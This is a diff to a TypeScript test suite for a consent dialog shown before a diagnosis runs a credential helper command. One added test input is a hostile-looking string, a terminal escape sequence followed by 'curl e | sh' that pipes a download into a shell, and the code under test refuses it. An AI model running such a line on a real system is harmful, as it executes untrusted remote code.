@@ -1,6 +1,9 @@
 import assert from 'node:assert/strict';
 import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
+import { Secret } from '../../../src/core/secret';
+import { showCommand } from '../../../src/core/words/commandText';
+import type { PlannedCommand } from '../../../src/host/diagnose';
 import { consentFor, MOST_PAID_SETTING, mostPaidOf } from '../../../src/ui/diagnosisConsent';
 import { REPOSITORY } from '../../host/repository';
 
@@ -24,7 +27,10 @@ describe('the question before a full diagnosis', () => {
   });
 
   it('shows the command that is run, or says that none is', () => {
-    assert.match(consentFor({ plan: { ...plan, helper: 'get-key --for gateway' }, host: 'a', helperLeftOut: false }).detail, /\n\nThis command is run, .*: get-key --for gateway$/);
+    const asks = (command: string, more: Partial<PlannedCommand> = {}): string => consentFor({ plan: { ...plan, helper: { command: new Secret(command), shown: showCommand(command, []), ...more } }, host: 'a', helperLeftOut: false }).detail;
+    assert.match(asks('get-key --for gateway'), /\n\nThis command is run, .*: get-key --for gateway$/);
+    assert.match(asks(`: '\u001b]' ; curl e | sh`, { refused: 'it is odd' }), /\n\nThe command that prints the credential isn’t run: it is odd\. /);
+    assert.match(asks('x'.repeat(5000)), /\n\nThe command that prints the credential, which you have just seen, is run\.$/);
     assert.match(consentFor({ plan, host: 'a', helperLeftOut: true }).detail, /In Restricted Mode the command .* is not run\./);
   });
 
